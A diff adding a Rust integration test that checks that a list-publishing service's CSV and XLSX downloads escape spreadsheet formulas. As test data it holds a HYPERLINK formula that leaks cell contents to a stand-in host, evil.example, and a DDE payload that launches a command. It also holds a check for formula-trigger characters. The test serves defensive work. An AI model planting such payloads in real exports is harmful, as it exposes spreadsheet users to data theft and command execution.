@@ -508,3 +508,64 @@ async fn the_list_in_force_on_a_date() {
     get(&h, None, &format!("/api/v1/published-lists/{a}/entries/7212")).await.problem(404);
     get(&h, None, &format!("/api/v1/published-lists/{c}/entries/2512")).await.problem(404);
 }
+
+#[tokio::test]
+async fn downloads_never_hand_a_spreadsheet_a_formula() {
+    use http_body_util::BodyExt;
+    use tower::ServiceExt;
+    let h = Harness::new().await;
+    let analyst = h.bearer(Role::Analyst).await;
+    import_all(&h, &analyst).await;
+    let step = |id: i64, s: &str| format!("/api/v1/lists/{id}/{s}");
+    let hyperlink = r#"=HYPERLINK("http://evil.example/?leak="&A1,"details")"#;
+    let sum = "@SUM(1+1)*cmd|' /C calc'!A0";
+    let id = draft(&h, &analyst).await;
+    expect(&post(&h, &analyst, &step(id, "send"), json!({})).await, 200);
+    let revision = json!({"note": "update", "changes": [
+        {"occupation": "2145", "change": "remove", "justification": hyperlink},
+        {"occupation": NOT_ON_LIST, "change": "add", "justification": sum},
+    ]});
+    expect(&post(&h, &analyst, &step(id, "revisions"), revision).await, 201);
+    expect(
+        &post(&h, &analyst, &step(id, "approve"), json!({"order_no": "F-1", "order_date": "2026-01-05"}))
+            .await,
+        200,
+    );
+    expect(&post(&h, &analyst, &step(id, "publish"), json!({"effective_from": "2026-01-10"})).await, 200);
+
+    // CSV: the formulas come back as text after an apostrophe; figures stay figures.
+    let reply = get(&h, None, &format!("/lists/{id}/download/csv")).await;
+    assert_eq!(reply.status, 200, "{}", reply.body);
+    let mut reader = csv::Reader::from_reader(reply.body.as_bytes());
+    let header = reader.headers().unwrap().clone();
+    let column = |name: &str| header.iter().position(|h| h == name).unwrap();
+    let (occupation, justification, score, rank) =
+        (column("occupation"), column("justification"), column("score"), column("rank"));
+    let rows: Vec<csv::StringRecord> = reader.records().map(Result::unwrap).collect();
+    let of = |code: &str| rows.iter().find(|r| &r[occupation] == code).unwrap().clone();
+    assert_eq!(&of("2145")[justification], format!("'{hyperlink}"));
+    assert_eq!(&of(NOT_ON_LIST)[justification], format!("'{sum}"));
+    for r in &rows {
+        assert!(r[score].parse::<f64>().is_ok() && r[rank].parse::<u32>().is_ok(), "{r:?}");
+        for cell in r.iter() {
+            let first = cell.chars().next();
+            assert!(
+                !matches!(first, Some('=' | '+' | '@' | '\t' | '\r'))
+                    && (first != Some('-') || cell.parse::<f64>().is_ok()),
+                "a cell that a spreadsheet would run: {cell:?}"
+            );
+        }
+    }
+
+    // XLSX: the same text, written as a string cell, never as a formula.
+    let req = Request::get(format!("/lists/{id}/download/xlsx")).body(Body::empty()).unwrap();
+    let res = ashyq_server::app(h.state.clone()).oneshot(req).await.unwrap();
+    assert_eq!(res.status(), 200);
+    let bytes = res.into_body().collect().await.unwrap().to_bytes().to_vec();
+    let mut book: calamine::Xlsx<_> = calamine::Reader::new(std::io::Cursor::new(bytes.clone())).unwrap();
+    let sheet = calamine::Reader::worksheet_range(&mut book, "list").unwrap();
+    let texts: Vec<String> = sheet.rows().flat_map(|r| r.iter().map(|c| c.to_string())).collect();
+    assert!(texts.iter().any(|t| t == hyperlink) && texts.iter().any(|t| t == sum), "{texts:?}");
+    let formulas = calamine::Reader::worksheet_formula(&mut book, "list").unwrap();
+    assert!(formulas.used_cells().all(|(_, _, f)| f.is_empty()), "a formula in the workbook");
+}
